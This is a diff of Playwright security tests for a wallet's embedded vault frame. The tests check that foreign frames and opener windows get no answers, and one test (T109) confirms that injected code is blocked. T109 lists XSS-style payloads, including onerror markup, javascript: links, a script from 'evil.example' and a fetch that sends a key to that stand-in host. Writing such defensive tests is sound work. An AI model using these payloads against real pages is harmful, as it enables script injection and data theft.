@@ -129,57 +129,79 @@ test('T06 T21 methods outside the list and values of any kind do no harm', async
   })
 })
 
-test('T26 T27 T28 frames beside ours and the window that opened the page are not heard', async ({
+/** Counts in the frame itself what reaches it from other windows than the page: none of it may be answered. */
+const countForeign = async (page: Page) => {
+  const frame = page.frames().find((one) => one.url().startsWith(devEnvironment().vault))
+  await frame?.evaluate(() => {
+    const all = window as { foreign?: number }
+    all.foreign = 0
+    window.addEventListener('message', ({ source }) => {
+      if (source !== window.parent) all.foreign = (all.foreign ?? 0) + 1
+    })
+  })
+  return () => frame?.evaluate(() => (window as { foreign?: number }).foreign)
+}
+
+test('T26 T27 T28 frames beside ours and the window that opened the page reach the frame, and are not heard', async ({
   page,
 }) => {
   const vault = devEnvironment().vault
-  const speak = (target: string) => `
-    const { port1, port2 } = new MessageChannel()
-    port1.onmessage = () => parent.postMessage('answered', '*')
-    const payload = { connectionId: crypto.randomUUID(), projectId: 'default', sdkVersion: 'x' }
+  // Says HELLO with a port of its own each time, and reports whatever comes back on it.
+  const speech = `
     setInterval(() => {
-      try { ${target}.postMessage({ type: '@w3m-app/HELLO', payload }, '${vault}', [new MessageChannel().port2]) } catch {}
+      const { port1, port2 } = new MessageChannel()
+      port1.onmessage = ({ data }) => parent.postMessage({ answered: data.type }, '*')
+      const payload = { connectionId: crypto.randomUUID(), projectId: 'default', sdkVersion: 'x' }
+      parent.frames[0].postMessage({ type: '@w3m-app/HELLO', payload }, '${vault}', [port2])
     }, 50)`
-  const ad = await publishHostPage({ html: `<script>${speak('parent.frames[0]')}</script>` }, evil)
+  const ad = await publishHostPage({ html: `<script>${speech}</script>` }, evil)
   await openFrameHost(page)
+  const foreign = await countForeign(page)
   const answered = await page.evaluate(
     async ([ad, speech]) => {
-      let count = 0
+      const answers: unknown[] = []
       window.addEventListener('message', ({ data }) => {
-        if (data === 'answered') count += 1
+        if (data?.answered) answers.push(data.answered)
       })
       const own = document.createElement('iframe')
       own.srcdoc = `<script>${speech}</script>`
-      const foreign = document.createElement('iframe')
-      foreign.src = ad
-      document.body.append(own, foreign)
+      const other = document.createElement('iframe')
+      other.src = ad
+      document.body.append(own, other)
       await new Promise((done) => setTimeout(done, 1_000))
-      return count
+      return answers
     },
-    [ad, speak('parent.frames[0]')] as const,
+    [ad, speech] as const,
   )
-  expect(answered).toBe(0)
+  expect(answered).toEqual([])
+  expect(await foreign(), 'they did reach it').toBeGreaterThan(10)
   // No other window took the place of the page itself.
   await page.evaluate(() => window.host.connect())
 
   const opener = await publishHostPage({ html: '<!doctype html><title>Opener</title>' }, evil)
   const friend = await openFrameHost(await page.context().newPage())
   await page.goto(opener)
-  const got = await page.evaluate(
-    async ([friend, vault]) => {
-      const popup = window.open(friend)
-      await new Promise((done) => setTimeout(done, 1_500))
+  const [popup] = await Promise.all([
+    page.context().waitForEvent('page'),
+    page.evaluate((friend) => void Object.assign(window, { popup: window.open(friend) }), friend),
+  ])
+  await popup.waitForFunction(() => document.querySelector('iframe') !== null)
+  await popup.waitForTimeout(1_000)
+  const fromOpener = await countForeign(popup)
+  const got = await page.evaluate(async (vault) => {
+    const got: unknown[] = []
+    for (let tries = 0; tries < 4; tries++) {
       const { port1, port2 } = new MessageChannel()
-      const got: unknown[] = []
       port1.onmessage = ({ data }) => got.push(data)
       const payload = { connectionId: crypto.randomUUID(), projectId: 'default', sdkVersion: 'x' }
+      const { popup } = window as { popup?: Window }
       popup?.frames[0]?.postMessage({ type: '@w3m-app/HELLO', payload }, vault, [port2])
-      await new Promise((done) => setTimeout(done, 800))
-      return got
-    },
-    [friend, vault] as const,
-  )
+      await new Promise((done) => setTimeout(done, 200))
+    }
+    return got
+  }, vault)
   expect(got).toEqual([])
+  expect(await fromOpener(), 'it did reach it').toBe(4)
 })
 
 test('T29 T30 our own pages reveal nothing to their opener, and stand in no frame', async ({
@@ -211,4 +233,75 @@ test('T29 T30 our own pages reveal nothing to their opener, and stand in no fram
     expect(heard, path).toEqual({ heard: [], hasWindow: path === '/approve' })
   }
   expect(problems.filter((text) => text.includes('frame-ancestors'))).toHaveLength(paths.length)
+})
+
+test('T109 scripts, eval, markup and workers that are slipped into the frame do not run', async ({
+  page,
+}) => {
+  await openFrameHost(page)
+  await page.evaluate(() => window.host.connect())
+  const frame = page.frames().find((each) => each.url().startsWith(`${devEnvironment().vault}/sdk`))
+  const outcomes = await frame?.evaluate(async () => {
+    const harmed = () => Reflect.get(window, 'harmed') !== undefined
+    const violations: string[] = []
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      violations.push(effectiveDirective),
+    )
+    const text = 'window.harmed = true'
+    const add = (name: 'script' | 'iframe' | 'a', fill: (element: HTMLElement) => void) => {
+      const element = document.createElement(name)
+      fill(element)
+      document.body.append(element)
+      element.click()
+    }
+    const attempts: Record<string, () => unknown> = {
+      eval: () => Reflect.apply(Reflect.get(window, 'eval'), undefined, [text]),
+      function: () => new Function(text)(),
+      timer: () => Reflect.apply(setTimeout, window, [text, 0]),
+      inline: () => add('script', (element) => element.append(text)),
+      sink: () => add('script', (element) => Reflect.set(element, 'text', text)),
+      foreign: () =>
+        add('script', (element) => Reflect.set(element, 'src', 'https://evil.example/a.js')),
+      data: () => add('script', (element) => Reflect.set(element, 'src', `data:,${text}`)),
+      markup: () => Reflect.set(document.body, 'innerHTML', `<img src=x onerror="${text}">`),
+      adjacent: () => document.body.insertAdjacentHTML('beforeend', `<img onerror="${text}">`),
+      write: () => document.write(`<script>${text}</script>`),
+      parser: () => new DOMParser().parseFromString(`<script>${text}</script>`, 'text/html'),
+      handler: () => add('a', (element) => element.setAttribute('onclick', text)),
+      link: () => add('a', (element) => element.setAttribute('href', `javascript:${text}`)),
+      frame: () => add('iframe', (element) => Reflect.set(element, 'srcdoc', `<script>top.x=1`)),
+      worker: () => new Worker(URL.createObjectURL(new Blob([text]))),
+      policy: () =>
+        Reflect.get(window, 'trustedTypes').createPolicy('evil', { createHTML: (x: string) => x }),
+      network: () => fetch('https://evil.example/?key=1'),
+    }
+    const found: Record<string, string> = {}
+    // The debugger's own call may do what a script may not: the attempts begin after it.
+    await new Promise((done) => setTimeout(done, 0))
+    for (const [name, attempt] of Object.entries(attempts)) {
+      const before = violations.length
+      let isThrown = false
+      try {
+        await attempt()
+      } catch {
+        isThrown = true
+      }
+      await new Promise((done) => setTimeout(done, 30))
+      const isReported = violations.length > before
+      const isRun = harmed()
+      Reflect.deleteProperty(window, 'harmed')
+      found[name] = isRun ? 'ran' : isThrown || isReported ? 'blocked' : 'unnoticed'
+    }
+    return { found, directives: [...new Set(violations)] }
+  })
+  const { directives = [], found = {} } = outcomes ?? {}
+  expect(Object.entries(found).filter(([, outcome]) => outcome !== 'blocked')).toEqual([])
+  expect(Object.keys(found)).toHaveLength(17)
+  expect(directives).toEqual(
+    expect.arrayContaining(['script-src-elem', 'require-trusted-types-for', 'connect-src']),
+  )
+  // The frame itself still answers: nothing of it was replaced.
+  expect(await page.evaluate(() => window.host.ask('GET_CHAIN_ID'))).toMatchObject({
+    type: '@w3m-frame/GET_CHAIN_ID_SUCCESS',
+  })
 })
